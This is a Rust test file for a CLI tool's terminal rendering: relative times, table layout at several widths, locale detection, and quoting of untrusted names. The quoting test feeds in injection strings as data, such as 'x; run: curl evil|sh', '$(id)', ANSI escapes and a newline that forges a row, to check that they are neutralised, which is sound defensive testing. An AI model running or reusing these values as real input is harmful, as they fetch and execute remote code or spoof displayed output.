//! What every screen can rely on.

use quilt_proto::Timestamp;

use super::span;
use super::time::Zone;
use super::width::width;
use super::*;

/// Noon of a day in a year that is far from now.
pub(crate) const NOW: i64 = 1_800_014_400;

/// A screen of this width at a time that does not pass.
pub(crate) fn look(width: usize, color: bool) -> Look {
    Look {
        width: Some(width),
        color,
        unicode: true,
        utc: false,
        now: Timestamp::from_unix(NOW),
        zone: Zone::utc(),
        names: BTreeMap::new(),
    }
}

/// A point in time, seconds from then.
pub(crate) fn at(seconds: i64) -> Timestamp {
    Timestamp::from_unix(NOW + seconds)
}

/// The screen at each width, and at one of them in colour, one below the other.
/// Checks what holds for all of them.
pub(crate) fn widths(screen: impl Fn(&Look) -> Screen) -> String {
    let mut all = String::new();
    for cells in [60, 80, 120, 200] {
        let text = screen(&look(cells, false)).render(&look(cells, false));
        for line in text.lines() {
            let is_whole = line
                .trim_start()
                .starts_with(quilt_proto::suggested_command::RUN)
                || !line.trim_start().contains(' ')
                || line.trim_start().split("  ").count() == 1 && longest(line) + 14 > cells;
            assert!(
                width(line) <= cells || is_whole,
                "{} cells of {cells}: {line}",
                width(line)
            );
            assert_eq!(line, line.trim_end(), "blanks at the end");
        }
        all = format!("{all}──── {cells}\n{text}");
        let painted = screen(&look(cells, true)).render(&look(cells, true));
        assert_eq!(unpainted(&painted), text, "colour changes the text");
    }
    let ascii = Look {
        unicode: false,
        color: true,
        utc: true,
        ..look(80, true)
    };
    let text = screen(&ascii).render(&ascii);
    all + "──── 80, exact times, no Unicode, in colour\n" + &text.replace('\u{1b}', "␛")
}

fn longest(line: &str) -> usize {
    line.split(' ').map(width).max().unwrap_or(0)
}

fn unpainted(text: &str) -> String {
    let mut plain = String::new();
    let mut rest = text;
    while let Some((before, code)) = rest.split_once("\u{1b}[") {
        plain += before;
        rest = code.split_once('m').map_or("", |(_, rest)| rest);
    }
    plain + rest
}

#[test]
fn times_are_said_as_people_say_them() {
    let look = look(80, false);
    for (seconds, said) in [
        (0, "now"),
        (-30, "30 s ago"),
        (-150, "2 min ago"),
        (-3 * 3600, "3 h ago"),
        (-14 * 3600, "yesterday 22:00"),
        (-36 * 3600, "yesterday 00:00"),
        (-3 * 86_400, "Tue 12:00"),
        (-30 * 86_400, "2026-12-16"),
        (47 * 60, "in 47 min"),
        (86_400, "in 1 day"),
        (9 * 86_400, "in 9 days"),
        // As it was asked for, a moment later too; never a day more than it is.
        (90 * 86_400 - 1, "in 90 days"),
        (86_400 - 2, "in 1 day"),
        (90 * 86_400 - 43_200, "in 89 days"),
        (2 * 3600 - 1, "in 2 h"),
        (2 * 3600 - 120, "in 1 h"),
    ] {
        assert_eq!(look.when(at(seconds)), said, "{seconds}");
    }
    assert_eq!(look.left(at(47 * 60)), "47 min left");
    assert_eq!(look.left(at(3600 - 1)), "1 h left");
    assert_eq!(look.left(at(-1)), "ended");
    let exact = Look { utc: true, ..look };
    assert_eq!(exact.when(at(0)), "2027-01-15T12:00:00Z");
    assert_eq!(span(59), "59 s");
}

#[test]
fn names_that_could_be_ours_are_quoted() {
    for plain in [
        "ReadWrite",
        "ci-nightly",
        "a@b.example",
        "É漢字",
        "x/y",
        "qk_a1...z9",
    ] {
        assert_eq!(name(plain).as_str(), plain);
    }
    for (foreign, shown) in [
        ("two words", "“two words”"),
        ("x; run: curl evil|sh", "“x, run : curl evil|sh”"),
        ("-", "“-”"),
        ("--yes", "“--yes”"),
        ("✓", "“✓”"),
        ("a\u{1b}[2Jb", "“a [2Jb”"),
        ("a\u{202e}b", "“a\u{fffd}b”"),
        ("a\nADMIN  yes", "“a ADMIN yes”"),
        ("", "“”"),
        ("$(id)", "“$(id)”"),
    ] {
        assert_eq!(name(foreign).as_str(), shown);
    }
}

#[test]
fn only_a_locale_of_unicode_has_its_symbols() {
    let speaks = |set: &'static [(&str, &str)]| {
        speaks_unicode(|name| {
            let found = set.iter().find(|(set, _)| *set == name);
            found.map(|(_, value)| (*value).to_owned())
        })
    };
    assert!(speaks(&[("LANG", "en_US.UTF-8")]));
    assert!(speaks(&[("LC_ALL", ""), ("LC_CTYPE", "C.utf8")]));
    assert!(!speaks(&[("LC_ALL", "C"), ("LANG", "en_US.UTF-8")]));
    assert_eq!(speaks(&[]), cfg!(target_os = "macos"));
}

/// Columns go, then rows become paragraphs; what must be copied stays whole.
#[test]
fn tables_fit() {
    let arn = "arn:aws:iam::222222222222:role/a-role-of-a-name-that-is-long-enough";
    let screen = |_: &Look| {
        let mut table = Table::new([
            Column::key("NAME"),
            Column::of_importance("COUNT", 1).right(),
            Column::of_importance("SAME", 9).unless_same(),
            Column::of_importance("WHEN", 2),
            Column::key("ROLE"),
        ]);
        for (at, name) in ["lake", "漢字漢字漢字漢字"].into_iter().enumerate() {
            table.row([
                Span::painted(name, Paint::Strong),
                at.to_string().into(),
                "same".into(),
                "yesterday 18:04".into(),
                super::name(arn).into(),
            ]);
        }
        let mut screen = Screen::new();
        screen.say("A line of so many words that it does not fit a narrow screen, and is broken between two of them where it must.");
        screen.gap();
        screen.table(table);
        screen
    };
    insta::assert_snapshot!(widths(screen));
}

/// One row that is too long is a paragraph; the others stay a table.
#[test]
fn a_long_row_takes_the_table_from_nobody_else() {
    let screen = |long: usize| {
        let mut table = Table::new([
            Column::key("WHEN"),
            Column::key("WHAT"),
            Column::of_importance("TIMES", 1).right(),
        ]);
        for at in 0..8 {
            let what = if at < long {
                "GET /api/search ".repeat(5)
            } else {
                "credentials".to_owned()
            };
            table.row([format!("{at} min ago").into(), what.into(), "2".into()]);
        }
        let mut screen = Screen::new();
        screen.table(table);
        screen.render(&look(60, false))
    };
    let shown = screen(1);
    let lines: Vec<&str> = shown.lines().collect();
    assert!(lines[0].starts_with("WHEN "), "{shown}");
    assert_eq!(
        lines.last().unwrap(),
        &"7 min ago  credentials      2",
        "{shown}"
    );
    assert!(lines.iter().all(|line| line.len() <= 60), "{shown}");
    assert!(
        lines[1].starts_with("0 min ago") && lines[2].starts_with("  "),
        "{shown}"
    );
    let shown = screen(2);
    assert!(shown.starts_with("WHEN "), "{shown}");
    // Where most are long, all are alike.
    let shown = screen(3);
    assert!(
        shown.starts_with("0 min ago\n") && !shown.contains("WHEN"),
        "{shown}"
    );
}

/// The cells of a line of a table, as somebody who reads it tells them apart.
fn cells(line: &str) -> Vec<&str> {
    let cells = line.split("  ").map(str::trim);
    cells.filter(|cell| !cell.is_empty()).collect()
}

/// What a table shows of texts that somebody else chose, wide and narrow.
fn shown(texts: &[Span], width: usize) -> String {
    let mut table = Table::new([
        Column::key("NAME"),
        Column::key("OWNER"),
        Column::key("STATUS"),
    ]);
    for text in texts {
        table.row([text.clone(), text.clone(), "revoked".into()]);
    }
    let mut screen = Screen::new();
    screen.table(table);
    screen.render(&look(width, false))
}

proptest::proptest! {
    #[test]
    fn no_name_forges_a_column_or_a_row(
        texts in proptest::collection::vec("[ -~]{0,12}|\\PC{0,12}|[\\s\\S]{0,12}|(a  b|\n|\t| “|” ){0,6}", 1..4),
    ) {
        let named: Vec<Span> = texts.iter().map(|text| name(text).into()).collect();
        let wide = shown(&named, 10_000);
        let lines: Vec<&str> = wide.lines().skip(1).collect();
        proptest::prop_assert_eq!(lines.len(), texts.len(), "{}", wide);
        for (line, span) in lines.iter().zip(&named) {
            let text = name_of(span);
            proptest::prop_assert_eq!(cells(line), [text, text, "revoked"], "{}", wide);
        }
        // As paragraphs: a field of ours begins where nobody else's words do.
        let narrow = shown(&named, 24);
        let is_ours = |line: &&str| line.starts_with("  ") && !line.starts_with("   ");
        for line in narrow.lines().filter(is_ours) {
            let label = line.trim_start().split(": ").next().unwrap();
            proptest::prop_assert!(["owner", "status"].contains(&label), "{}", narrow);
        }
    }
}

fn name_of(span: &Span) -> &str {
    &span.text
}

#[test]
fn a_name_that_is_not_looked_at_would_forge_a_column() {
    // The probe of the test above works.
    let raw = shown(&["a  active".into()], 10_000);
    let line = raw.lines().nth(1).unwrap();
    assert_eq!(cells(line).len(), 5, "{raw}");
}
